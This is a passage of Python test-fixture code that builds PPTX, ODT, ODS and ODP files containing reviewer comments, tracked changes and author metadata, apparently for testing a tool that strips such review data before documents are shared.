             '<p:spPr><a:xfrm><a:off x="914400" y="914400"/><a:ext cx="6000000" cy="900000"/>'
             '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody>'
             '<a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US"/><a:t>SLIDE-TEXT-UNIFORM'
             "</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>")
    pres = (f'<?xml version="1.0" encoding="UTF-8"?><p:presentation {NS_P}><p:sldIdLst><p:sldId '
            'id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz '
            'cx="6858000" cy="9144000"/></p:presentation>')
    return _zip({
        "[Content_Types].xml": _types(CT_BASE, {
            "/ppt/presentation.xml": f"{PML}.presentation.main+xml",
            "/ppt/slides/slide1.xml": f"{PML}.slide+xml"}),
        "_rels/.rels": _rels([("rId1", f"{R}/officeDocument", "ppt/presentation.xml")]),
        "ppt/presentation.xml": pres,
        "ppt/_rels/presentation.xml.rels": _rels([("rId2", f"{R}/slide", "slides/slide1.xml")]),
        "ppt/slides/slide1.xml": slide})


def reviewed_pptx(base: bytes) -> bytes:
    """Classic comments with their author list and modern comments (with a reply) with theirs,
    added to slide 1 of `base`."""
    legacy = (f'<?xml version="1.0" encoding="UTF-8"?><p:cmLst {NS_P}><p:cm authorId="0" '
              'dt="2024-01-02T03:04:05.000" idx="1"><p:pos x="10" y="10"/><p:text>PPT-COMMENT-'
              "VICTOR for Alice Reviewer</p:text></p:cm></p:cmLst>")
    authors_legacy = (f'<?xml version="1.0" encoding="UTF-8"?><p:cmAuthorLst {NS_P}><p:cmAuthor '
                      'id="0" name="Alice Reviewer" initials="QZA" lastIdx="1" clrIdx="0"/>'
                      "</p:cmAuthorLst>")
    body = ('<p188:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>{}</a:t></a:r></a:p>'
            "</p188:txBody>")
    modern = (f'<?xml version="1.0" encoding="UTF-8"?><p188:cmLst {NS_P} xmlns:p188="{P188}">'
              '<p188:cm id="{C1}" authorId="{A1}" created="2024-01-02T03:04:05.000">'
              '<p188:replyLst><p188:reply id="{R1}" authorId="{A1}" created="2024-01-02T03:04:05.000">'
              + body.format("PPT-REPLY-WHISKEY") + "</p188:reply></p188:replyLst>"
              + body.format("PPT-MODERN-XRAY") + "</p188:cm></p188:cmLst>")
    authors = (f'<?xml version="1.0" encoding="UTF-8"?><p188:authorLst {NS_P} xmlns:p188="{P188}">'
               '<p188:author id="{A1}" name="Bob Editor" initials="QZB" '
               'userId="S::bob.editor@example.org::9" providerId="AD"/></p188:authorLst>')
    ext = (f'<p:ext uri="{{6950BFC3-D8DA-4A85-94F7-54DA5524770B}}"><p188:commentRel '
           f'xmlns:p188="{P188}" r:id="rIdMcm"/></p:ext>')

    def slide(s: str) -> str:
        if "<p:extLst>" in s:
            return s.replace("<p:extLst>", "<p:extLst>" + ext, 1)
        return s.replace("</p:sld>", f"<p:extLst>{ext}</p:extLst></p:sld>")

    def add_rels(extra: list) -> callable:
        def fn(s: str) -> str:
            items = "".join(f'<Relationship Id="{i}" Type="{t}" Target="{g}"/>'
                            for i, t, g in extra)
            return (s or _rels([])).replace("</Relationships>", items + "</Relationships>")
        return fn

    def types(s: str) -> str:
        extra = {"/ppt/comments/comment1.xml": f"{PML}.comments+xml",
                 "/ppt/commentAuthors.xml": f"{PML}.commentAuthors+xml",
                 "/ppt/comments/modernComment_100_1A2B3C4D.xml":
                     "application/vnd.ms-powerpoint.comments+xml",
                 "/ppt/authors.xml": "application/vnd.ms-powerpoint.authors+xml"}
        return s.replace("</Types>", "".join(f'<Override PartName="{p}" ContentType="{c}"/>'
                                             for p, c in extra.items()) + "</Types>")

    data = _patch_zip(base, {
        "[Content_Types].xml": types, "ppt/slides/slide1.xml": slide,
        "ppt/_rels/presentation.xml.rels": add_rels([
            ("rIdCma", f"{R}/commentAuthors", "commentAuthors.xml"),
            ("rIdAut", f"{MS_REL}/2018/10/relationships/authors", "authors.xml")]),
        "ppt/slides/_rels/slide1.xml.rels": add_rels([
            ("rIdCm", f"{R}/comments", "../comments/comment1.xml"),
            ("rIdMcm", f"{MS_REL}/2018/10/relationships/comments",
             "../comments/modernComment_100_1A2B3C4D.xml")])})
    return _patch_zip(data, {
        "ppt/comments/comment1.xml": lambda _: legacy,
        "ppt/commentAuthors.xml": lambda _: authors_legacy,
        "ppt/comments/modernComment_100_1A2B3C4D.xml": lambda _: modern,
        "ppt/authors.xml": lambda _: authors})


OFFICEOOO = 'xmlns:officeooo="http://openoffice.org/2009/office"'


def _change_info(who: str) -> str:
    return (f"<office:change-info><dc:creator>{who}</dc:creator><dc:date>2024-01-02T03:04:05"
            "</dc:date></office:change-info>")


def reviewed_odt() -> bytes:
    """Tracked insertion, deletion and format change, and a comment with a range, initials and
    a date; rsids in the automatic styles."""
    changes = ('<text:tracked-changes text:track-changes="true">'
               f'<text:changed-region xml:id="ct1" text:id="ct1"><text:insertion>'
               f'{_change_info("Alice Reviewer")}</text:insertion></text:changed-region>'
               f'<text:changed-region xml:id="ct2" text:id="ct2"><text:deletion>'
               f'{_change_info("Bob Editor")}<text:p>ODT-DELETED-YANKEE</text:p></text:deletion>'
               '</text:changed-region><text:changed-region xml:id="ct3" text:id="ct3">'
               f'<text:format-change>{_change_info("Carol Mover")}</text:format-change>'
               "</text:changed-region></text:tracked-changes>")
    body = ("<office:text>" + changes
            + '<text:p text:style-name="P1">ODT kept start <text:change-start text:change-id="ct1"/>'
              'ODT-INSERTED-ZULU<text:change-end text:change-id="ct1"/> middle <text:change '
              'text:change-id="ct2"/>end.</text:p>'
              '<text:p>Annotated <office:annotation office:name="__Annotation__1"><dc:creator>'
              'Alice Reviewer</dc:creator><dc:date>2024-01-02T03:04:05</dc:date>'
              '<meta:creator-initials>QZA</meta:creator-initials><text:p>ODT-COMMENT-AMBER for '
              'Bob Editor</text:p></office:annotation>words<office:annotation-end '
              'office:name="__Annotation__1"/> here.</text:p>'
              '<text:p><text:change-start text:change-id="ct3"/>FORMATTED-BERYL<text:change-end '
              'text:change-id="ct3"/></text:p></office:text>')
    styles = (f'<style:style style:name="P1" style:family="paragraph"><style:text-properties '
              f'{OFFICEOOO} officeooo:rsid="00c0ffee" officeooo:paragraph-rsid="00bada55"/>'
              "</style:style>")
    return odf(ODT, body, styles=styles)


def reviewed_ods() -> bytes:
    body = ('<office:spreadsheet><table:tracked-changes table:track-changes="true">'
            '<table:cell-content-change table:id="ct1"><table:cell-address table:column="0" '
            f'table:row="0" table:table="0"/>{_change_info("Dave Sharer")}<table:previous>'
            '<table:change-track-table-cell office:value-type="string"><text:p>ODS-OLD-CORAL'
            "</text:p></table:change-track-table-cell></table:previous>"
            "</table:cell-content-change></table:tracked-changes>"
            '<table:table table:name="Sheet1"><table:table-row><table:table-cell '
            'office:value-type="string"><office:annotation><dc:creator>Alice Reviewer</dc:creator>'
            "<dc:date>2024-01-02T03:04:05</dc:date><text:p>ODS-NOTE-DUNE</text:p>"
            "</office:annotation><text:p>ODS-CELL-EMBER</text:p></table:table-cell>"
            "</table:table-row></table:table></office:spreadsheet>")
    return odf(ODS, body)


def reviewed_odp() -> bytes:
    body = ('<office:presentation><draw:page draw:name="S1"><draw:frame svg:x="2cm" svg:y="2cm" '
            'svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>ODP-SLIDE-FERN</text:p>'
            f'</draw:text-box></draw:frame><officeooo:annotation {OFFICEOOO} svg:x="1cm" '
            'svg:y="1cm" svg:width="5cm" svg:height="2cm"><dc:creator>Bob Editor</dc:creator>'
            "<dc:date>2024-01-02T03:04:05</dc:date><text:p>ODP-COMMENT-GLADE</text:p>"
            "</officeooo:annotation></draw:page></office:presentation>")
    return odf(ODP, body)
